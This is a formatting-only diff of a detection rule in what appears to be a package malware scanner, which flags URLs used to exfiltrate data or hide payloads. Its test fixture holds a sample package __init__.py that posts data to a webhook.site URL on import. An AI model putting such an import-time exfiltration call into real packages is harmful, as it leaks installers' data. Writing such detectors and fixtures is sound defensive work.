@@ -7,7 +7,6 @@ from typing import TYPE_CHECKING
 from veln_hook.signals.source.rule import BY_ITSELF, HOLD, INFO, REVIEW, Hit, Rule
 from veln_hook.source import vocabulary as v
 
-
 if TYPE_CHECKING:
     from collections.abc import Iterator
 
@@ -21,8 +20,12 @@ def _find(view: View) -> Iterator[Hit]:
             continue
         strong = "strong" in url.flags
         itself = url.reach in BY_ITSELF
-        grade = HOLD if strong and itself else REVIEW if strong or (itself and "hidden" in url.flags) else INFO
-        yield Hit(f"it names {url.detail}, which serves to carry data off or to hide a payload", (url,), grade)
+        grade = (
+            HOLD if strong and itself else REVIEW if strong or (itself and "hidden" in url.flags) else INFO
+        )
+        yield Hit(
+            f"it names {url.detail}, which serves to carry data off or to hide a payload", (url,), grade
+        )
 
 
 RULE = Rule(
@@ -31,6 +34,8 @@ RULE = Rule(
     grade=HOLD,
     find=_find,
     fires={"acme/__init__.py": "import requests\nrequests.post('https://webhook.site/1234', data='x')\n"},
-    quiet={"acme/__init__.py": "import requests\n\ndef ask():\n    return requests.get('https://pypi.org/simple/')\n"},
+    quiet={
+        "acme/__init__.py": "import requests\n\ndef ask():\n    return requests.get('https://pypi.org/simple/')\n"
+    },
     rates="614 of 2,004 malicious clusters, 7 of 200 popular archives name one anywhere",
 )
